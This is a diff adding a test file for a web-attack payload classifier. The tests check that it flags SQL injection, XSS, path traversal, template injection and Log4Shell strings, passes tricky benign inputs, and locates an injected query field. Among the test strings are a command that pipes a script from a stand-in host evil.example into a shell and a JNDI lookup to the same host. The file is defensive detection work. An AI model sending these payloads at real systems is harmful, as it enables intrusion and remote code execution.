@@ -1,0 +1,64 @@
+import { describe, expect, it } from 'vitest';
+import { recordToRawRequest } from '../../src/eval/record-request.js';
+import { buildInspection } from '../../src/inspect/build-inspection.js';
+import { createModelGate } from '../../src/model/gate.js';
+import { loadPayloadModel } from '../../src/model/load.js';
+
+const model = await loadPayloadModel('models/payload-v1');
+
+describe('the shipped payload model (models/payload-v1)', () => {
+  it('scores obvious attacks of every family at or above its threshold', () => {
+    const attacks = [
+      "1' OR '1'='1' -- ",
+      '-1 UNION SELECT username, password FROM users--',
+      "admin'; DROP TABLE users;--",
+      '<script>alert(document.cookie)</script>',
+      '<img src=x onerror=alert(1)>',
+      'javascript:alert(1)',
+      '../../../../etc/passwd',
+      '; cat /etc/passwd',
+      '$(curl http://evil.example/x.sh | sh)',
+      '{{7*7}}{{config.__class__.__init__.__globals__}}',
+      '${jndi:ldap://evil.example/a}',
+    ];
+    const scores = model.score(attacks);
+    attacks.forEach((a, i) => expect(scores[i], a).toBeGreaterThanOrEqual(model.threshold));
+  });
+
+  it('scores hard-benign values below its threshold', () => {
+    const benign = [
+      "O'Brien",
+      "It's a \"great\" product, isn't it?",
+      'Tom & Jerry',
+      'Please select your size from the list and update your order.',
+      '<p>Thanks for the <b>quick</b> delivery!</p>',
+      'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36',
+      'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8',
+      '(555) 123-4567',
+      '50% off all shoes!',
+      'https://www.example.com/search?q=red+shoes&page=2',
+    ];
+    const scores = model.score(benign);
+    benign.forEach((b, i) => expect(scores[i], b).toBeLessThan(model.threshold));
+  });
+
+  it('points at the attacked field of a real request, through the normalizer and the gate', async () => {
+    const inspection = buildInspection(
+      recordToRawRequest({
+        id: 't',
+        source: 'test',
+        label: 'attack',
+        category: 'sqli',
+        method: 'GET',
+        path: '/products',
+        query: `sort=price&q=${encodeURIComponent("shoes' UNION SELECT password FROM users--")}`,
+        headers: { Host: 'shop.example', 'User-Agent': 'Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0', Accept: '*/*' },
+      }),
+    );
+    const result = await createModelGate(model).evaluate(inspection, { hits: [], candidates: 0 });
+    const top = result.scores[0];
+    expect(inspection.targets[top.targetIndex].name).toBe('q');
+    expect(top.score).toBeGreaterThanOrEqual(model.threshold);
+    expect(result.screened).toBeLessThan(result.total);
+  });
+});
